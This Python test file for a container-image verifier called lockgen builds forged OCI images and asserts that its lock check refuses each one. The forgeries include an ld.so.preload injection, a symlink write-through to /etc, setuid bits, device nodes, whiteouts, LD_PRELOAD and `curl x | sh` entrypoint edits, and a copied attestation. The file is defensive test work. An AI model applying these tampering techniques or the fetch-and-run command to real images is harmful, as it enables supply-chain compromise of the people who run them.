"""An image is proven whole (issue 27, item 4): each attack here builds its malicious image from an honest
`lockgen export` layout with the small OCI writers below (blobs named by their sha256, index.json pointing at
the new manifest, as any tool can), and `check --image --lock` must refuse it with one `error:` line naming
the difference and a `hint:`; umoci and skopeo read the crafted images, so they are what a runtime runs."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import shutil
import stat
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import loopback_registry, run_cli
from tests.test_export import make_lock, require, run_export

TAG = "h100-linux-64"  # the tag export writes for the h100 target
LAYER_TAR = "application/vnd.oci.image.layer.v1.tar"


def put(layout: Path, data: bytes) -> dict[str, Any]:
    digest = hashlib.sha256(data).hexdigest()
    (layout / "blobs" / "sha256" / digest).write_bytes(data)
    return {"digest": f"sha256:{digest}", "size": len(data)}


def document(layout: Path, digest: str) -> dict[str, Any]:
    return json.loads((layout / "blobs" / "sha256" / digest.split(":")[1]).read_bytes())


def tar_layer(files: dict[str, bytes | None]) -> bytes:
    """An uncompressed layer: each path a file (bytes) or a folder (None), in the order given."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            if data is None:
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                tar.addfile(info)
            else:
                info.size, info.mode = len(data), 0o755
                tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


def image_files(layout: Path) -> dict[str, bytes | None]:
    """The honest image's members, every layer, as `tar_layer` takes them (the last layer's version of each)."""
    manifest = document(layout, json.loads((layout / "index.json").read_text())["manifests"][0]["digest"])
    found: dict[str, bytes | None] = {}
    for layer in manifest["layers"]:
        with tarfile.open(layout / "blobs" / "sha256" / layer["digest"].split(":")[1], mode="r:gz") as tar:
            for member in tar:
                found[member.name] = None if member.isdir() else tar.extractfile(member).read()
    return found


def rewritten(
    honest: Path,
    out: Path,
    layers: list[bytes] = (),
    config_edit: Callable[[dict], None] = lambda _: None,
    tag: str = TAG,
) -> tuple[Path, dict[str, Any]]:
    """A copy of the honest layout whose image has `layers` added on top and its config edited, as index.json's
    only image under `tag`; returns the layout and the new manifest's descriptor."""
    shutil.copytree(honest, out)
    entry = json.loads((out / "index.json").read_text())["manifests"][0]
    manifest = document(out, entry["digest"])
    config = document(out, manifest["config"]["digest"])
    for data in layers:  # gzip, as a registry keeps it (an uncompressed layer is compressed on a push)
        manifest["layers"].append({"mediaType": LAYER_TAR + "+gzip", **put(out, gzip.compress(data, mtime=0))})
        config["rootfs"]["diff_ids"].append("sha256:" + hashlib.sha256(data).hexdigest())
    config_edit(config)
    manifest["config"] = {**manifest["config"], **put(out, json.dumps(config).encode())}
    descriptor = {
        "mediaType": entry["mediaType"],
        **put(out, json.dumps(manifest).encode()),
        "annotations": {"org.opencontainers.image.ref.name": tag},
    }
    (out / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [descriptor]}))
    return out, descriptor


def write_layout(folder: Path, layers: list[bytes], settings: dict[str, Any]) -> Path:
    """An OCI layout of one amd64 image (tag `latest`) of uncompressed `layers` and config `settings`."""
    (folder / "blobs" / "sha256").mkdir(parents=True)
    config = {
        "architecture": "amd64",
        "os": "linux",
        "config": settings,
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(data).hexdigest() for data in layers]},
    }
    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", **put(folder, json.dumps(config).encode())},
        "layers": [{"mediaType": LAYER_TAR, **put(folder, data)} for data in layers],
    }
    descriptor = {
        "mediaType": manifest["mediaType"],
        **put(folder, json.dumps(manifest).encode()),
        "annotations": {"org.opencontainers.image.ref.name": "latest"},
    }
    (folder / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [descriptor]}))
    (folder / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')
    return folder


def tree(root: Path) -> set[str]:
    return {str(path.relative_to(root)) for path in root.rglob("*")}


@pytest.fixture
def honest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    lock = make_lock(tmp_path, "1.0")
    run_export(lock, tmp_path / "honest", tmp_path / "home", monkeypatch)
    return lock, tmp_path / "honest"


def refused(image: str, lock: Path, *wanted: str) -> str:
    """`check --image --lock` exits 1 with one error line and a hint, no traceback, each of `wanted` said."""
    done = run_cli("check", "--image", image, "--lock", str(lock))
    said = done.stdout + done.stderr
    assert done.returncode == 1, said
    assert [line.startswith("error: ") for line in done.stderr.splitlines()].count(True) == 1, done.stderr
    assert "hint: " in done.stderr and "Traceback" not in said, said
    for text in wanted:
        assert text in said, said
    return said


@pytest.mark.slow
def test_the_honest_image_passes_also_named_by_its_tag(honest: tuple[Path, Path]) -> None:
    lock, layout = honest
    for image in (str(layout), f"{layout}:{TAG}"):
        done = run_cli("check", "--image", image, "--lock", str(lock), "--json")
        assert done.returncode == 0, done.stdout + done.stderr
        assert json.loads(done.stdout)["base_digest"] is None and "from base" not in done.stderr
    refused(f"{layout}:latest", lock, f"has no image tagged `latest` (its tags: {TAG})")


@pytest.mark.slow
def test_the_count_of_packages_is_the_lock_s(honest: tuple[Path, Path]) -> None:
    """Issue 44: `check --image --lock` counted the image's own lock (.lockgen/lock.conda-lock.yml, held to the
    lock byte for byte) as one more package: 4 packages for this 3-package lock. It is still checked, not counted."""
    lock, layout = honest
    locked = len(yaml.safe_load(lock.read_text())["package"])
    done = run_cli("check", "--image", str(layout), "--lock", str(lock), "--json")
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads(done.stdout)["report"]
    assert report["counts"]["packages"] == report["counts"]["ok"] == locked == 3, report["counts"]
    assert {"package": "the image's own lock", "status": "ok", "locked": False} in [
        {key: entry[key] for key in ("package", "status", "locked")} for entry in report["packages"]
    ]
    assert f"is the environment of {lock}: {locked} packages, every file accounted for" in done.stderr, done.stderr


@pytest.mark.slow
def test_a_proven_copy_at_a_decoy_path_is_not_the_environment_the_image_runs(
    honest: tuple[Path, Path], tmp_path: Path
) -> None:
    """(a) the label names a proven copy at /opt/decoy; PATH and CONDA_PREFIX run /opt/env, whose program changed."""
    lock, layout = honest
    copy = {
        name.replace("opt/env", "opt/decoy", 1): data
        for name, data in image_files(layout).items()
        if name.startswith("opt/env")
    }
    evil = {"opt/env/bin/foo": b"#!/bin/sh\necho owned\n"}

    def relabel(config: dict) -> None:
        config["config"]["Labels"]["dev.lockgen.prefix"] = "/opt/decoy"

    forged, _ = rewritten(layout, tmp_path / "decoy", [tar_layer(copy), tar_layer(evil)], relabel)
    refused(
        str(forged),
        lock,
        "its label dev.lockgen.prefix names the environment at /opt/decoy, but the image's config runs /opt/env",
    )


@pytest.mark.slow
def test_a_file_outside_the_environment_is_refused(honest: tuple[Path, Path], tmp_path: Path) -> None:
    """(b) an added layer with /etc/ld.so.preload: nothing outside the prefix but what export writes."""
    lock, layout = honest
    forged, _ = rewritten(
        layout,
        tmp_path / "preload",
        [tar_layer({"etc": None, "etc/ld.so.preload": b"/tmp/x.so\n"})],
        lambda config: None,
    )
    said = refused(str(forged), lock, "adds /etc, /etc/ld.so.preload outside the environment at /opt/env")
    assert "the image has no base" in said


def typed_layer(members: list[tuple[str, bytes, str | None]]) -> bytes:
    """An uncompressed layer of members given as (name, tar type, link target or file content as text)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, kind, value in members:
            info = tarfile.TarInfo(name)
            info.type, info.mode = kind, 0o755
            if kind == tarfile.SYMTYPE:
                info.linkname = value or ""
            if kind == tarfile.CHRTYPE:
                info.devmajor, info.devminor = 1, 3
            data = (value or "").encode() if kind == tarfile.REGTYPE else b""
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


@pytest.mark.slow
def test_a_member_written_through_a_link_is_judged_where_it_lands(honest: tuple[Path, Path], tmp_path: Path) -> None:
    """Every member's name starts with opt/env/, but the first makes opt/env/lib a link to /etc, the second is
    written through it (umoci writes /etc/ld.so.preload), and the third puts the folder back: found by an attack
    battery, passed as "every file accounted for" while names were judged as text."""
    lock, layout = honest
    swap = typed_layer(
        [
            ("opt/env/lib", tarfile.SYMTYPE, "/etc"),
            ("opt/env/lib/ld.so.preload", tarfile.REGTYPE, "/opt/env/lib/evil.so\n"),
            ("opt/env/lib", tarfile.DIRTYPE, None),
        ]
        + [
            (name, tarfile.REGTYPE, data.decode())
            for name, data in image_files(layout).items()
            if name.startswith("opt/env/lib/") and data is not None
        ]
    )
    forged, _ = rewritten(layout, tmp_path / "swap", [swap], lambda config: None)
    refused(str(forged), lock, "adds /etc/ld.so.preload outside the environment at /opt/env")


@pytest.mark.slow
def test_a_device_node_in_the_environment_is_refused(honest: tuple[Path, Path], tmp_path: Path) -> None:
    """A runtime unpacking as root makes the device (umoci does): the locked file it replaces is gone and the node
    is named. lockgen's unpack skipped devices, so the file stayed and the check passed."""
    lock, layout = honest
    locked = next(
        name for name, data in image_files(layout).items() if name.startswith("opt/env/lib/") and data is not None
    )
    forged, _ = rewritten(
        layout, tmp_path / "device", [typed_layer([(locked, tarfile.CHRTYPE, None)])], lambda config: None
    )
    said = refused(
        str(forged), lock, f"puts a device node at /{locked} (character device) in the environment at /opt/env"
    )
    assert f"missing {locked.removeprefix('opt/env/')}" in said


def with_manifest(honest: Path, out: Path, edit: Callable[[dict], None]) -> Path:
    """A copy of the honest layout whose manifest is edited (its blobs as they are), index.json pointing at it."""
    shutil.copytree(honest, out)
    entry = json.loads((out / "index.json").read_text())["manifests"][0]
    manifest = document(out, entry["digest"])
    edit(manifest)
    descriptor = {**entry, **put(out, json.dumps(manifest).encode())}
    (out / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [descriptor]}))
    return out


@pytest.mark.slow
@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda m: m["layers"][0].update(size=m["layers"][0]["size"] + 5), "its descriptor says"),
        (lambda m: m["layers"][0].update(size=2**63 + 5), "less than or equal to 9223372036854775807"),
        (lambda m: m["layers"][0].update(mediaType="application/x-whatever"), "is no layer a runtime unpacks"),
        (lambda m: m["config"].update(mediaType=LAYER_TAR), "is no image config's"),
        (lambda m: m["config"].update(size=m["config"]["size"] - 1), "its descriptor says"),
    ],
)
def test_descriptors_a_runtime_refuses_are_refused(
    honest: tuple[Path, Path], tmp_path: Path, edit: Callable[[dict], None], said: str
) -> None:
    """A layer's or config's size that is not its blob's, one past int64, a layer media type no runtime knows (it
    was read as gzip), a config that says it is a layer: each passed the check (found by an attack battery);
    umoci, the runtime here, refuses each, and is the oracle."""
    lock, layout = honest
    forged = with_manifest(layout, tmp_path / "forged", edit)
    unpacked = subprocess.run(
        [require("umoci"), "raw", "unpack", "--rootless", "--image", f"{forged}:{TAG}", str(tmp_path / "rootfs")],
        capture_output=True,
        text=True,
    )
    assert unpacked.returncode != 0, "umoci unpacked it: not a forgery"
    refused(str(forged), lock, said)


@pytest.mark.slow
def test_on_a_base_only_the_base_layers_may_hold_files_outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """(b) on a pinned base (umoci's, /etc/os-release) the base's layers account for what they hold; a layer
    added after them does not, and a base the image does not carry cannot account for anything."""
    from lockgen.api.export import export
    from lockgen.model.requests import ExportRequest

    base = write_layout(
        tmp_path / "base", [tar_layer({"etc": None, "etc/os-release": b"ID=base\n"})], {"Env": ["LANG=C.UTF-8"]}
    )  # an OS base of one layer, written by hand: umoci's is checked below
    bundle = tmp_path / "bundle"
    subprocess.run(
        [require("umoci"), "unpack", "--rootless", "--image", f"{base}:latest", str(bundle)],
        check=True,
        capture_output=True,
    )
    assert (bundle / "rootfs" / "etc" / "os-release").read_text() == "ID=base\n"
    lock = make_lock(tmp_path, "1.0")
    monkeypatch.setenv("LOCKGEN_HOME", str(tmp_path / "home"))
    export(ExportRequest(lock, tmp_path / "on-base", base=base), lambda _: None)
    done = run_cli("check", "--image", str(tmp_path / "on-base"), "--lock", str(lock))
    assert done.returncode == 0, done.stdout + done.stderr
    # the base is trusted for everything outside the environment and no lock names it: the verdict names it
    manifest = document(
        tmp_path / "on-base", json.loads((tmp_path / "on-base" / "index.json").read_text())["manifests"][0]["digest"]
    )
    base_digest = manifest["annotations"]["org.opencontainers.image.base.digest"]
    assert f"from base {base_digest[:23]}…, trusted as the image pins it" in done.stderr, done.stderr
    as_json = run_cli("check", "--image", str(tmp_path / "on-base"), "--lock", str(lock), "--json")
    assert json.loads(as_json.stdout)["base_digest"] == base_digest
    forged, _ = rewritten(tmp_path / "on-base", tmp_path / "after", [tar_layer({"etc/ld.so.preload": b"/tmp/x.so\n"})])
    refused(str(forged), lock, "adds /etc/ld.so.preload outside the environment at /opt/env (after the base's 1 layers")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("edit", "named"),
    [
        (lambda c: c["config"]["Env"].append("LD_PRELOAD=/opt/env/lib/libfoo.txt"), 'config Env adds ["LD_PRELOAD='),
        (lambda c: c["config"]["Env"].append("PYTHONPATH=/tmp/evil"), 'config Env adds ["PYTHONPATH=/tmp/evil"]'),
        (
            lambda c: c["config"].update(Entrypoint=["sh", "-c", "curl x | sh"]),
            'config Entrypoint is ["sh", "-c", "curl x | sh"]',
        ),
        (
            lambda c: c["config"].update(Cmd=["/opt/env/bin/foo", "--evil"]),
            'config Cmd is ["/opt/env/bin/foo", "--evil"]',
        ),
        (lambda c: c["config"].update(User="1001:1001"), 'config User is "1001:1001", export writes "1000:1000"'),
        (lambda c: c["config"].update(WorkingDir="/tmp"), 'config WorkingDir is "/tmp", export writes "/"'),
    ],
)
def test_a_config_other_than_the_one_export_writes_is_named(
    honest: tuple[Path, Path], tmp_path: Path, edit: Callable[[dict], None], named: str
) -> None:
    """(c) each setting that runs the environment differently is named against what export writes from the lock."""
    lock, layout = honest
    forged, _ = rewritten(layout, tmp_path / "config", [], edit)
    refused(str(forged), lock, f"image: {named}")


def test_a_whiteout_over_the_environment_is_seen_and_refused(honest: tuple[Path, Path], tmp_path: Path) -> None:
    """(d) `opt/.wh.env`, then the environment re-added without lib/libfoo.txt: the file a runtime lacks is
    missing against the lock (umoci, applying the whiteout, lacks it too), and the whiteout is refused."""
    lock, layout = honest
    again = {
        name: data
        for name, data in image_files(layout).items()
        if name.startswith("opt/env") and name != "opt/env/lib/libfoo.txt"
    }
    forged, _ = rewritten(layout, tmp_path / "whiteout", [tar_layer({"opt/.wh.env": b""}), tar_layer(again)])
    bundle = tmp_path / "bundle"
    subprocess.run(
        [require("umoci"), "unpack", "--rootless", "--image", f"{forged}:{TAG}", str(bundle)],
        check=True,
        capture_output=True,
    )
    assert (bundle / "rootfs" / "opt" / "env" / "bin" / "foo").is_file()
    assert not (bundle / "rootfs" / "opt" / "env" / "lib" / "libfoo.txt").exists()
    refused(
        str(forged),
        lock,
        "libfoo 1.0: missing lib/libfoo.txt",
        "removes /opt/env by a whiteout, over the environment at /opt/env",
    )


@pytest.mark.slow
def test_the_image_is_the_one_its_tag_names(honest: tuple[Path, Path], tmp_path: Path) -> None:
    """(e) index.json lists the clean image first and a modified one under the tag export wrote: the tag
    decides (skopeo reads that one too), a layout of two images without a tag is refused, and so is a tag
    that names two images."""
    lock, layout = honest
    forged, modified = rewritten(layout, tmp_path / "two", [tar_layer({"opt/env/bin/foo": b"#!/bin/sh\necho owned\n"})])
    clean = json.loads((layout / "index.json").read_text())["manifests"][0]
    index = {
        "schemaVersion": 2,
        "manifests": [{**clean, "annotations": {"org.opencontainers.image.ref.name": "clean"}}, modified],
    }
    (forged / "index.json").write_text(json.dumps(index))
    inspected = subprocess.run(
        [require("skopeo"), "inspect", "--raw", f"oci:{forged}:{TAG}"], capture_output=True, check=True
    ).stdout
    assert "sha256:" + hashlib.sha256(inspected).hexdigest() == modified["digest"]
    refused(str(forged), lock, "holds 2 images (tags: clean, h100-linux-64), and no tag says which")
    refused(f"{forged}:{TAG}", lock, "libfoo 1.0: modified bin/foo")
    assert run_cli("check", "--image", f"{forged}:clean", "--lock", str(lock)).returncode == 0
    index["manifests"][0]["annotations"]["org.opencontainers.image.ref.name"] = TAG
    (forged / "index.json").write_text(json.dumps(index))
    refused(f"{forged}:{TAG}", lock, "names two images by the tag `h100-linux-64`")


@pytest.mark.slow
def test_a_lock_bound_attestation_admits_only_an_image_proven_the_lock_s(
    honest: tuple[Path, Path], tmp_path: Path
) -> None:
    """(f) a bare-metal certificate of the lock attested to the honest image; its envelope copied (no key needed)
    onto a modified image that keeps the lock label: the gate does not count it, and with --lock it counts only
    for the image that check --image --lock proves the lock's."""
    from lockgen.digests import file_digest
    from tests.test_attest import Wire, make_certificate

    lock, layout = honest
    forged, _ = rewritten(layout, tmp_path / "forged", [tar_layer({"opt/env/bin/foo": b"#!/bin/sh\necho owned\n"})])
    (tmp_path / "registry").mkdir()
    with loopback_registry(tmp_path / "registry") as host:
        for folder, repository in ((layout, "team/honest"), (forged, "team/forged")):
            assert run_cli("push", str(folder), f"docker://{host}/{repository}:1", "--insecure").returncode == 0
        assert run_cli("keygen", "--out", str(tmp_path / "key")).returncode == 0
        certificate = make_certificate(tmp_path / "bare.cert.json", tmp_path / "key", lock_sha256=file_digest(lock))
        attested = run_cli(
            "attest", f"docker://{host}/team/honest:1", str(certificate), "--key", str(tmp_path / "key"), "--insecure"
        )
        assert attested.returncode == 0, attested.stderr
        wire = Wire(host)
        wire.put_manifest(
            "team/forged",
            "sha256-" + wire.image("team/forged", "1")["digest"].split(":")[1],
            json.dumps(
                {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": []}
            ).encode(),
            "application/vnd.oci.image.index.v1+json",
        )
        wire.attach(
            "team/forged", wire.image("team/forged", "1"), wire.envelope("team/honest", attested.stdout.strip())
        )
        gate = ("--key", str(tmp_path / "key.pub"), "--require-pass", "cpu", "--insecure")
        listed = run_cli("certs", f"docker://{host}/team/forged:1", "--key", str(tmp_path / "key.pub"), "--insecure")
        assert listed.returncode == 0 and "[lock; signature valid" in listed.stdout, listed.stdout + listed.stderr
        for repository in ("team/forged", "team/honest"):
            bare = run_cli("certs", f"docker://{host}/{repository}:1", *gate)
            assert bare.returncode == 1 and "1 bound only to a lock" in bare.stderr, bare.stderr
        proven = run_cli("certs", f"docker://{host}/team/honest:1", *gate, "--lock", str(lock))
        assert proven.returncode == 0, proven.stdout + proven.stderr
        copied = run_cli("certs", f"docker://{host}/team/forged:1", *gate, "--lock", str(lock))
        assert copied.returncode == 1 and "is not the image of" in copied.stderr, copied.stderr
        assert "libfoo 1.0: modified bin/foo" in copied.stdout and "hint: " in copied.stderr
        assert "Traceback" not in copied.stdout + copied.stderr


def test_the_file_system_checked_is_the_one_a_runtime_mounts(tmp_path: Path) -> None:
    """Whiteouts as umoci applies them: a plain one, an opaque folder, and a file put back by a later layer."""
    from lockgen.adapters.image import image_source

    layout = write_layout(
        tmp_path / "layers",
        [
            tar_layer({"d": None, "d/a": b"1", "d/b": b"2", "e": None, "e/x": b"3", "f": b"4"}),
            tar_layer({"d/.wh..wh..opq": b"", "d/c": b"5", "e/.wh.x": b"", ".wh.f": b""}),
            tar_layer({"d/a": b"6"}),
        ],
        {"User": "1000"},
    )
    bundle = tmp_path / "bundle"
    subprocess.run(
        [require("umoci"), "unpack", "--rootless", "--image", f"{layout}:latest", str(bundle)],
        check=True,
        capture_output=True,
    )
    with image_source.opened(layout, lambda _: None) as opened:
        assert tree(opened.root) == tree(bundle / "rootfs") == {"d", "d/a", "d/c", "e"}
        assert (opened.root / "d" / "a").read_bytes() == b"6"


def moded_layer(files: dict[str, tuple[bytes, int]]) -> bytes:
    """An uncompressed layer of regular files, each with its content and the mode its header states."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, (data, mode) in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


def test_modes_land_as_a_runtime_lands_them(tmp_path: Path) -> None:
    """Every permission bit a member states lands as umoci lands it: setuid, setgid, sticky, an exec bit dropped,
    group and other write. The extractor kept `mode & 0o755`, so a layer adding setuid to a file was not seen."""
    from lockgen.adapters.image import image_source

    modes = {"s": 0o4755, "g": 0o2755, "t": 0o1644, "x": 0o755, "plain": 0o644, "w": 0o666, "private": 0o600}
    layout = write_layout(
        tmp_path / "layers",
        [
            moded_layer({name: (b"same\n", 0o755) for name in modes}),
            moded_layer({name: (b"same\n", mode) for name, mode in modes.items()}),
        ],
        {"User": "1000"},
    )
    bundle = tmp_path / "bundle"
    subprocess.run(
        [require("umoci"), "unpack", "--rootless", "--image", f"{layout}:latest", str(bundle)],
        check=True,
        capture_output=True,
    )
    landed = {name: stat.S_IMODE((bundle / "rootfs" / name).stat().st_mode) for name in modes}
    assert landed == modes, "umoci, the oracle, lands other modes"
    with image_source.opened(layout, lambda _: None) as opened:
        assert {name: stat.S_IMODE((opened.root / name).stat().st_mode) for name in modes} == landed


@pytest.mark.slow
@pytest.mark.parametrize(
    "mode, landed, named",
    [
        (0o4755, "-rwsr-xr-x", "mode: bin/foo is setuid"),
        (0o644, "-rw-r--r--", "exec bit not the package's: bin/foo"),
        (0o1755, "-rwxr-xr-t", "mode: bin/foo is setuid, setgid, sticky"),
    ],
)
def test_a_later_layer_changing_only_a_locked_file_s_mode_is_named(
    honest: tuple[Path, Path], tmp_path: Path, mode: int, landed: str, named: str
) -> None:
    """The same bytes of a locked program again in a later layer, setuid, not executable, or sticky: umoci lands
    that mode, and `check --image --lock` names it (each passed while the extractor kept `mode & 0o755` and the
    packages' exec bits were not expected)."""
    lock, layout = honest
    program = image_files(layout)["opt/env/bin/foo"]
    assert program is not None
    forged, _ = rewritten(layout, tmp_path / "moded", [moded_layer({"opt/env/bin/foo": (program, mode)})])
    bundle = tmp_path / "bundle"
    subprocess.run(
        [require("umoci"), "unpack", "--rootless", "--image", f"{forged}:{TAG}", str(bundle)],
        check=True,
        capture_output=True,
    )
    assert stat.filemode((bundle / "rootfs" / "opt" / "env" / "bin" / "foo").stat().st_mode) == landed
    done = run_cli("check", "--image", str(forged), "--lock", str(lock))
    assert done.returncode == 1 and named in done.stdout + done.stderr, done.stdout + done.stderr
    recorded = run_cli("check", "--image", str(forged))  # against the environment's own record: drift too
    assert recorded.returncode == 1 and "bin/foo" in recorded.stdout, recorded.stdout + recorded.stderr


@pytest.mark.slow
def test_a_malformed_manifest_is_one_error(honest: tuple[Path, Path], tmp_path: Path) -> None:
    """A layer descriptor whose digest is not `sha256:` and 64 lowercase hex digits: one error naming the field."""
    lock, layout = honest
    forged, _ = rewritten(layout, tmp_path / "bad", [])
    index = json.loads((forged / "index.json").read_text())
    manifest = document(forged, index["manifests"][0]["digest"])
    manifest["layers"][0]["digest"] = manifest["layers"][0]["digest"].upper().replace("SHA256", "sha256")
    index["manifests"][0].update(put(forged, json.dumps(manifest).encode()))
    (forged / "index.json").write_text(json.dumps(index))
    refused(str(forged), lock, "its manifest or config field layers.0.digest: String should match pattern")
